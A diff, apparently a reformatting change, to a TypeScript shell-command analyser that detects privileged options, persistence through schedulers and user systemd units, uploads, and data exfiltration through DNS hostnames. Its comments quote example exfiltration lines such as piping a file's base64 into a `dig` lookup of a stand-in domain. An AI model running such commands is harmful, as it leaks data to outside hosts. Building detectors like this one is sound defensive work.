@@ -55,7 +55,9 @@ function privileged(p: PrivilegeDecl, args: ProgramArgs): boolean {
     }
     case 'options':
       return (
-        args.options.some((o) => p.options.some((x) => o === x || o.startsWith(`${x}=`) || (x.length === 2 && !o.startsWith('--') && /^-[A-Za-z]+$/.test(o) && o.includes(x[1]!)))) ||
+        args.options.some((o) =>
+          p.options.some((x) => o === x || o.startsWith(`${x}=`) || (x.length === 2 && !o.startsWith('--') && /^-[A-Za-z]+$/.test(o) && o.includes(x[1]!))),
+        ) ||
         (p.operand !== undefined && [...args.words, ...args.options].some((w) => p.operand!.test(w)))
       );
   }
@@ -64,10 +66,21 @@ function privileged(p: PrivilegeDecl, args: ProgramArgs): boolean {
 /** `systemd-run --on-calendar`, `at now + 1 min`, `crontab file`: code that runs after the session. */
 function schedules(name: string, args: ProgramArgs): boolean {
   if ((SCHEDULERS.always as readonly string[]).includes(name)) return !args.options.some((o) => o === '-l' || o === '-c' || o === '-d' || o === '-r');
-  if ((SCHEDULERS.crontab as readonly string[]).includes(name)) return !args.options.some((o) => /^-[a-zA-Z]*l/.test(o)) || args.options.some((o) => o === '-r' || o === '-e');
+  if ((SCHEDULERS.crontab as readonly string[]).includes(name))
+    return !args.options.some((o) => /^-[a-zA-Z]*l/.test(o)) || args.options.some((o) => o === '-r' || o === '-e');
   // a user unit enabled or linked starts at every login
-  if (name === 'systemctl' && args.options.includes('--user') && args.words.slice(0, 1).some((w) => ['enable', 'link', 'reenable', 'preset', 'add-wants', 'add-requires', 'edit', 'set-property'].includes(w))) return true;
-  if (name === 'systemd-run') return args.options.some((o) => SCHEDULERS.timerOptions.some((t) => o === t || o.startsWith(`${t}=`))) || args.options.includes('--user') || args.options.includes('--remain-after-exit');
+  if (
+    name === 'systemctl' &&
+    args.options.includes('--user') &&
+    args.words.slice(0, 1).some((w) => ['enable', 'link', 'reenable', 'preset', 'add-wants', 'add-requires', 'edit', 'set-property'].includes(w))
+  )
+    return true;
+  if (name === 'systemd-run')
+    return (
+      args.options.some((o) => SCHEDULERS.timerOptions.some((t) => o === t || o.startsWith(`${t}=`))) ||
+      args.options.includes('--user') ||
+      args.options.includes('--remain-after-exit')
+    );
   return false;
 }
 
@@ -85,15 +98,26 @@ function uploads(t: TransferDecl, command: ShellCommand): boolean {
     const last = command.stdin.producers[command.stdin.producers.length - 1];
     // echo/printf text piped in; anything else is unseen commands, possibly an upload
     if (!last || (last.name !== 'echo' && last.name !== 'printf')) return true;
-    lines.push(...last.argv.slice(1).map((a) => a.value).join(' ').split(/\\n|\n|;/));
+    lines.push(
+      ...last.argv
+        .slice(1)
+        .map((a) => a.value)
+        .join(' ')
+        .split(/\\n|\n|;/),
+    );
   } else if (command.stdin.kind === 'file') return true;
   if (t.uploads.includes('')) return true;
   if (t.uploadOptions?.some((o) => argv.some((a) => a.value === o || (o.length === 2 && /^-[A-Za-z]+$/.test(a.value) && a.value.includes(o[1]!))))) return true;
   // each command of a line (`open h && put x`, `queue put x`), lower-cased like the patterns
-  return lines.flatMap((line) => line.split(/&&|\|\||;/)).some((line) => {
-    const words = line.trim().toLowerCase().replace(/^queue\s+/, '');
-    return t.uploads.some((u) => u !== '' && (words === u.toLowerCase() || words.startsWith(`${u.toLowerCase()} `)));
-  });
+  return lines
+    .flatMap((line) => line.split(/&&|\|\||;/))
+    .some((line) => {
+      const words = line
+        .trim()
+        .toLowerCase()
+        .replace(/^queue\s+/, '');
+      return t.uploads.some((u) => u !== '' && (words === u.toLowerCase() || words.startsWith(`${u.toLowerCase()} `)));
+    });
 }
 
 /** A host operand built from a computed part (`dig $(cat f | base64).evil.test`): the data leaves in the DNS query. */
@@ -101,7 +125,9 @@ function dataInHostname(decl: ProgramDecl | undefined, command: ShellCommand): b
   return command.argv.slice(1).some((a) => {
     if (!a.dynamic) return false;
     // a URL's host (any program: `git ls-remote https://$(…).x.test`), `host:port` of a network client, a lookup's name
-    const host = /^[a-z][a-z0-9+.-]*:\/\/([^/?#]*)/i.exec(a.pattern)?.[1]?.replace(/^[^@]*@/, '') ?? (decl?.resolves ? a.pattern : decl?.network && /^[^/\s]+:\d+$/.test(a.pattern) ? a.pattern.replace(/:\d+$/, '') : null);
+    const host =
+      /^[a-z][a-z0-9+.-]*:\/\/([^/?#]*)/i.exec(a.pattern)?.[1]?.replace(/^[^@]*@/, '') ??
+      (decl?.resolves ? a.pattern : decl?.network && /^[^/\s]+:\d+$/.test(a.pattern) ? a.pattern.replace(/:\d+$/, '') : null);
     if (!host) return false;
     // a computed label inside a name with a literal domain after it: `*.evil.test`, `x*y.evil.test`
     return /\*/.test(host) && /\*[^.]*\.[a-z0-9-]+\.[a-z]{2,}/i.test(host) && !/^\*$/.test(host);
